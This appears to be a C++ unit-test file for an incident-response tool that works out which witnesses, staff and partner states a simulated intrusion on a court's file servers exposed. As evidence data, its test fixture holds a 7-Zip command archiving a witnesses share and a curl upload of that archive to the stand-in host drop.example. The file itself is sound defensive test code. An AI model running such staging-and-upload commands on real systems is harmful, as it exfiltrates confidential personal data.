// The impact assessment on a small inventory and hand-made incidents:
// per-subject attribution by file name, folder listings, staging and upload,
// compromised hosts, coverage gaps, and the inventory's subject_files key.

#include "vigil/assess/impact.h"

#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "vigil/assess/investigation.h"

namespace vigil::assess {
namespace {

constexpr const char* kInventory = R"(organisation:
  name: Test Court
  regime: gdpr
  dpo: {name: D. P. O., email: dpo@court.example}
subjects:
  - {id: W-1, name: A, kind: individual, category: witness, contact: {channel: in_person}}
  - {id: W-2, name: B, kind: individual, category: witness, contact: {channel: in_person}}
  - {id: W-3, name: C, kind: individual, category: witness, contact: {channel: in_person}}
  - {id: ST-1, name: D, kind: state, category: partner_state, contact: {channel: post, address: x}}
  - {id: S-1, name: E, kind: individual, category: staff, contact: {channel: email, address: e@court.example}}
  - {id: S-2, name: F, kind: individual, category: staff, contact: {channel: email, address: f@court.example}}
assets:
  - id: witnesses-a
    sensitivity: critical
    locations: ['\\fs01\cases\a\witnesses\**']
    subjects: [W-1, W-2]
    subject_files: '{id}_*'
  - id: witnesses-b
    sensitivity: critical
    locations: ['\\fs01\cases\b\witnesses\**']
    subjects: [W-3]
    subject_files: '{id}_*'
  - id: filings
    sensitivity: medium
    locations: ['\\srv02\filings\**']
    subjects: [ST-1]
  - id: hr
    sensitivity: high
    locations: ['/srv/hr/**']
    subjects: [S-1]
  - id: payroll
    sensitivity: high
    locations: ['\\srv02\payroll\**']
    subjects: [S-2]
identities:
  - {account: 'CORP\adm', role: it, assets: []}
)";

Timestamp at(const char* text) { return parse_rfc3339(text); }

class Impact : public ::testing::Test {
 protected:
  void SetUp() override {
    result_ = std::make_unique<InventoryResult>(Inventory::parse(kInventory, "inv.yaml"));
    for (const auto& p : result_->problems()) ADD_FAILURE() << p.to_string();
    ASSERT_TRUE(result_->ok());
    inputs_ = {{"fs01-security.evtx", "evtx", 10, 0}, {"ws1-sysmon.evtx", "evtx", 10, 0},
               {"srv02-security.evtx", "evtx", 10, 0}};
    spans_ = {{at("2026-10-01T00:00:00Z"), at("2026-10-28T00:00:00Z")},
              {at("2026-10-01T00:00:00Z"), at("2026-10-28T00:00:00Z")},
              {at("2026-10-01T00:00:00Z"), at("2026-10-28T00:00:00Z")}};
    roots_ = {{0, LocationPattern::Form::kWindows, "//fs01", "fs01.corp.local"},
              {2, LocationPattern::Form::kWindows, "//srv02", "srv02.corp.local"}};

    Incident inc;
    inc.id = "INC-001";
    inc.classification = "espionage";
    inc.first_seen = at("2026-10-10T01:00:00Z");
    inc.last_seen = at("2026-10-10T05:00:00Z");
    inc.hosts = {"fs01.corp.local", "ws1.corp.local"};
    inc.accounts = {"adm@corp.local"};
    inc.tactics = {"collection", "exfiltration"};
    IncidentStep pack;
    pack.timestamp = at("2026-10-10T02:00:00Z");
    pack.host = "ws1.corp.local";
    pack.tactics = {"collection"};
    pack.evidence = {"ws1-sysmon.evtx", 7, 700, pack.timestamp, pack.host, "adm@corp.local",
                     "archive",
                     "\"C:\\Program Files\\7-Zip\\7z.exe\" a C:\\t\\x.7z \\\\fs01\\cases\\a\\witnesses\\*"};
    IncidentStep upload = pack;
    upload.timestamp = at("2026-10-10T02:30:00Z");
    upload.tactics = {"exfiltration"};
    upload.evidence.record = 9;
    upload.evidence.timestamp = upload.timestamp;
    upload.evidence.object = "curl.exe -T C:\\t\\x.7z https://drop.example/x.7z";
    inc.steps = {pack, upload};
    findings_.incidents = {inc};
  }

  LoggedAccess read(const char* when, const char* object, uint32_t asset, Access verdict) {
    LoggedAccess a;
    a.timestamp = at(when);
    a.source = 0;
    a.record = ++record_;
    a.asset = asset;
    a.kind = LocationKind::kPath;
    a.verdict = verdict;
    a.reads = true;
    a.account = "CORP\\adm";
    a.host = "fs01.corp.local";
    a.action = "share file read";
    a.object = object;
    return a;
  }

  assess::Impact run() {
    ImpactInput input;
    input.inventory = &**result_;
    input.accesses = accesses_;
    input.roots = roots_;
    input.transfers = transfers_;
    input.spans = spans_;
    input.inputs = inputs_;
    const std::vector<std::string> hosts = {"fs01.corp.local"};
    const AccountNormaliser accounts(hosts);
    return assess_impact(findings_, input, accounts);
  }

  static const ExposedSubject* find(const assess::Impact& impact, const char* id) {
    for (const ExposedSubject& s : impact.subjects) {
      if (s.subject_id == id) return &s;
    }
    return nullptr;
  }

  std::unique_ptr<InventoryResult> result_;
  Findings findings_;
  std::vector<InputSummary> inputs_;
  std::vector<SourceSpan> spans_;
  std::vector<LoggedRoot> roots_;
  std::vector<LoggedAccess> accesses_;
  std::vector<LoggedTransfer> transfers_;
  uint64_t record_ = 100;
};

TEST_F(Impact, ArchiveThenUploadIsExfiltrationOfEverySubjectInTheFolder) {
  const assess::Impact impact = run();
  for (const char* id : {"W-1", "W-2"}) {
    const ExposedSubject* s = find(impact, id);
    ASSERT_NE(s, nullptr) << id;
    EXPECT_EQ(s->exposure, "exfiltrated");
    EXPECT_EQ(s->incident, "INC-001");
    EXPECT_GE(s->confidence, 0.9);
    ASSERT_EQ(s->evidence.size(), 2u);  // the archive and the upload
    EXPECT_EQ(s->evidence[0].record, 7u);
    EXPECT_EQ(s->evidence[1].record, 9u);
  }
  ASSERT_FALSE(impact.assets.empty());
  EXPECT_EQ(impact.assets[0].asset, "witnesses-a");
  EXPECT_EQ(impact.assets[0].actions, (std::vector<std::string>{"exfiltrated", "staged", "held"}));
}

TEST_F(Impact, TheProxyAndZeekSeeingTheUploadAreEvidenceToo) {
  transfers_ = {
      {at("2026-10-10T01:00:00Z"), 1, 3, 0, "drop.example", "203.0.113.9", 9'000'000, "adm",
       "proxy"},  // before the upload: not it
      {at("2026-10-10T02:31:00Z"), 1, 4, 0, "drop.example", "203.0.113.9", 9'000'000, "adm",
       "proxy"},
      {at("2026-10-10T02:30:02Z"), 2, 5, 0, "", "203.0.113.9", 9'100'000, "198.51.100.1", "zeek"},
      {at("2026-10-10T02:30:02Z"), 2, 6, 0, "", "203.0.113.10", 9'100'000, "198.51.100.1",
       "zeek"}};  // elsewhere
  const assess::Impact impact = run();
  const ExposedSubject* s = find(impact, "W-1");
  ASSERT_NE(s, nullptr);
  EXPECT_EQ(s->exposure, "exfiltrated");
  EXPECT_NEAR(s->confidence, 0.98, 1e-9);
  ASSERT_EQ(s->evidence.size(), 4u);
  EXPECT_EQ(s->evidence[2].record, 5u);  // Zeek, by time
  EXPECT_EQ(s->evidence[2].action, "9.1 MB sent (Zeek conn)");
  EXPECT_EQ(s->evidence[3].record, 4u);
  EXPECT_EQ(s->evidence[3].object, "drop.example");
  EXPECT_NE(s->reasons[0].find("9.0 MB out through the proxy to drop.example"), std::string::npos)
      << s->reasons[0];
}

TEST_F(Impact, ReadsAreAttributedByFileNameAndListingsReadNobody) {
  accesses_.push_back(
      read("2026-10-10T01:30:00Z", "\\\\fs01\\cases\\b\\witnesses", 1, Access::kOutsideRole));
  assess::Impact impact = run();
  EXPECT_EQ(find(impact, "W-3")->exposure, "at_risk");  // the folder was listed, no file read
  accesses_.push_back(read("2026-10-10T01:31:00Z", "\\\\fs01\\cases\\b\\witnesses\\W-3_statement.pdf",
                           1, Access::kOutsideRole));
  impact = run();
  const ExposedSubject* w3 = find(impact, "W-3");
  EXPECT_EQ(w3->exposure, "accessed");
  ASSERT_EQ(w3->evidence.size(), 1u);
  EXPECT_EQ(w3->evidence[0].account, "adm@corp.local");
}

TEST_F(Impact, ReadsOutsideTheIncidentOrWithinTheRoleDoNotMakeAccess) {
  accesses_.push_back(read("2026-10-12T01:31:00Z", "\\\\fs01\\cases\\b\\witnesses\\W-3_a.pdf", 1,
                           Access::kOutsideRole));  // after the incident
  accesses_.push_back(read("2026-10-10T01:31:00Z", "\\\\srv02\\payroll\\S-2.xlsx", 4,
                           Access::kWithinRole));  // the owner or the intruder
  const assess::Impact impact = run();
  EXPECT_EQ(find(impact, "W-3")->exposure, "at_risk");
  const ExposedSubject* s2 = find(impact, "S-2");
  ASSERT_NE(s2, nullptr);
  EXPECT_EQ(s2->exposure, "at_risk");
}

TEST_F(Impact, HostsTheIntruderHeldPutDataAtRiskAndGapsAreNeverSafe) {
  const assess::Impact impact = run();
  // On fs01, which the intruder held.
  EXPECT_EQ(find(impact, "W-3")->exposure, "at_risk");
  // On srv02, logged through the window, not reached.
  EXPECT_EQ(find(impact, "ST-1"), nullptr);
  EXPECT_EQ(impact.not_exposed, (std::vector<std::string>{"S-2", "ST-1"}));
  // /srv/hr: no input logs accesses there.
  const ExposedSubject* hr = find(impact, "S-1");
  ASSERT_NE(hr, nullptr);
  EXPECT_EQ(hr->exposure, "at_risk");
  ASSERT_EQ(hr->coverage_gaps.size(), 1u);
  EXPECT_NE(hr->coverage_gaps[0].find("/srv/hr"), std::string::npos) << hr->coverage_gaps[0];
  bool none = false;
  for (const CoverageEntry& c : impact.coverage.locations) {
    if (c.asset == "hr") none = c.status == "none";
    if (c.asset == "filings") {
      EXPECT_EQ(c.status, "covered");
      EXPECT_EQ(c.sources, (std::vector<std::string>{"srv02-security.evtx"}));
    }
  }
  EXPECT_TRUE(none);
}

TEST_F(Impact, ALogThatStopsBeforeTheWindowEndsLeavesAGap) {
  spans_[2].last = at("2026-10-10T03:00:00Z");
  const assess::Impact impact = run();
  const ExposedSubject* st = find(impact, "ST-1");
  ASSERT_NE(st, nullptr);
  EXPECT_EQ(st->exposure, "at_risk");
  ASSERT_FALSE(st->coverage_gaps.empty());
  EXPECT_NE(st->coverage_gaps[0].find("srv02-security.evtx covers"), std::string::npos);
}

TEST_F(Impact, AnInsidersReadsOutsideTheRoleAreAccessesAndHoldNoHost) {
  findings_.incidents[0].classification = "insider";
  findings_.incidents[0].steps.clear();
  accesses_.push_back(read("2026-10-10T01:31:00Z", "\\\\srv02\\filings\\decision.pdf", 2,
                           Access::kOutsideRole));
  const assess::Impact impact = run();
  EXPECT_EQ(find(impact, "ST-1")->exposure, "accessed");
  EXPECT_EQ(find(impact, "W-1"), nullptr);  // fs01 is not an intruder's
  EXPECT_EQ(find(impact, "S-1"), nullptr);  // no intrusion: gaps alone say nothing
}

TEST(SubjectFiles, NamesOneSubjectsFiles) {
  const auto result = Inventory::parse(kInventory, "inv.yaml");
  ASSERT_TRUE(result.ok());
  const Inventory& inv = *result;
  const Asset& a = *inv.asset("witnesses-a");
  auto whose = inv.subjects_at(a, "\\\\FS01.corp.local\\cases\\a\\witnesses\\w-2_photo.jpg",
                               LocationKind::kPath);
  EXPECT_FALSE(whose.container);
  ASSERT_EQ(whose.subjects.size(), 1u);
  EXPECT_EQ(inv.subjects()[whose.subjects[0]].id, "W-2");
  whose = inv.subjects_at(a, "\\\\fs01\\cases\\a\\witnesses\\index.txt", LocationKind::kPath);
  EXPECT_EQ(whose.subjects.size(), 2u);  // not told apart: everyone's
  whose = inv.subjects_at(a, "\\\\fs01\\cases\\a\\witnesses\\", LocationKind::kPath);
  EXPECT_TRUE(whose.container);
  EXPECT_TRUE(whose.subjects.empty());
}

TEST(SubjectFiles, BadNamesAreLineNumbered) {
  const std::string text = std::string(kInventory).replace(
      std::string(kInventory).find("subject_files: '{id}_*'"), 23, "subject_files: 'x/{id}'");
  const auto result = Inventory::parse(text, "inv.yaml");
  ASSERT_FALSE(result.ok());
  ASSERT_EQ(result.problems().size(), 1u);
  EXPECT_EQ(result.problems()[0].line, 17u);
  EXPECT_NE(result.problems()[0].message.find("without folders"), std::string::npos);
  const auto missing = Inventory::parse(
      std::string(kInventory).replace(std::string(kInventory).find("'{id}_*'"), 8, "'all_*'"),
      "inv.yaml");
  ASSERT_FALSE(missing.ok());
  EXPECT_NE(missing.problems()[0].message.find("must hold {id}"), std::string::npos);
}

TEST(Roots, SayWhichLogCanSeeAPlace) {
  using Form = LocationPattern::Form;
  EXPECT_EQ(location_root("//fs01/cases/a", Form::kWindows), "//fs01");
  EXPECT_EQ(location_root("d:/shares/cases", Form::kWindows), "d:");
  EXPECT_EQ(location_root("/srv/cms/store/x", Form::kLinux), "/srv/cms");
  EXPECT_EQ(location_root("/srv", Form::kLinux), "/srv");
  EXPECT_EQ(location_root("/en/news", Form::kUrl), "/");
  EXPECT_EQ(location_root("/cases/2024-017/x", Form::kObject), "/cases");
  EXPECT_EQ(location_root("case/1", Form::kObject), "case");
}

TEST(CommandLine, SplitsLikeWindows) {
  EXPECT_EQ(split_command_line("\"C:\\Program Files\\7-Zip\\7z.exe\" a  -p\"x y\" C:\\t\\a.7z"),
            (std::vector<std::string>{"C:\\Program Files\\7-Zip\\7z.exe", "a", "-px y",
                                      "C:\\t\\a.7z"}));
  EXPECT_EQ(split_command_line("cmd /c \"echo \\\"hi\\\"\""),
            (std::vector<std::string>{"cmd", "/c", "echo \"hi\""}));
  EXPECT_TRUE(split_command_line("   ").empty());
  EXPECT_EQ(split_command_line("\"\""), (std::vector<std::string>{""}));
}

}  // namespace
}  // namespace vigil::assess
